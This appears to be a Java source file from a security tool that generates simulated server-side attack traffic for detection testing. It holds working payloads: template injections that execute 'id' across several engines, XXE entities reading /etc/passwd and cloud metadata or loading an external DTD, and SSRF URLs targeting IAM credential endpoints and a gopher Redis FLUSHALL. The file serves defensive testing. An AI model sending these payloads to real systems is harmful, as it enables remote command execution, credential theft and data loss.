package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.Pick;
import java.util.List;
import java.util.SplittableRandom;

/** Making the server fetch, expand or render what it should not. */
final class ServerSide {

    static final List<AttackFamily> FAMILIES = List.of(
            AttackFamily.of("template_expression", ThreatType.SSTI, ServerSide::template),
            AttackFamily.of("template_object", ThreatType.SSTI, ServerSide::templateObject)
                    .reservedForSimulation(),
            AttackFamily.of("external_entity", ThreatType.XXE, ServerSide::entity)
                    .in(Placement.XML),
            AttackFamily.of("internal_address", ThreatType.SSRF, ServerSide::internal)
                    .in(Placement.QUERY, Placement.FORM, Placement.JSON),
            AttackFamily.of("other_scheme", ThreatType.SSRF, ServerSide::scheme)
                    .in(Placement.QUERY, Placement.FORM, Placement.JSON)
                    .reservedForSimulation());

    private ServerSide() {}

    private static String template(SplittableRandom r) {
        int a = Pick.number(r, 2, 99);
        int b = Pick.number(r, 2, 99);
        return Pick.one(
                r,
                "{{" + a + "*" + b + "}}",
                "${" + a + "*" + b + "}",
                "#{" + a + "*" + b + "}",
                "<%= " + a + "*" + b + " %>",
                "{{config.items()}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "{{''.__class__.__mro__[1].__subclasses__()}}");
    }

    private static String templateObject(SplittableRandom r) {
        return Pick.one(
                r,
                "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
                "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
                "{{constructor.constructor('return process')().mainModule.require('child_process')}}");
    }

    private static String entity(SplittableRandom r) {
        String name = Pick.letters(r, 3);
        String target = Pick.one(
                r,
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "http://169.254.169.254/latest/meta-data/",
                "php://filter/read=convert.base64-encode/resource=index.php");
        return Pick.one(
                r,
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY " + name + " SYSTEM \"" + target + "\">]><r>&" + name
                        + ";</r>",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % " + name + " SYSTEM \"http://" + Pick.letters(r, 6)
                        + ".example/e.dtd\">%" + name + ";]><r/>");
    }

    private static String internal(SplittableRandom r) {
        return Pick.one(
                r,
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://127.0.0.1:" + Pick.number(r, 1, 65_000) + "/admin",
                "http://localhost:8500/v1/agent/self",
                "http://[::1]:22/",
                "http://2130706433/",
                "http://metadata.google.internal/computeMetadata/v1/",
                "http://10.0." + Pick.number(r, 0, 9) + ".1/latest/");
    }

    private static String scheme(SplittableRandom r) {
        return Pick.one(
                r,
                "gopher://127.0.0.1:6379/_FLUSHALL",
                "dict://127.0.0.1:11211/stats",
                "ldap://127.0.0.1:389/%0astats",
                "http://0x7f000001/",
                "http://example.com@127.0.0.1:" + Pick.number(r, 1, 65_000) + "/");
    }
}
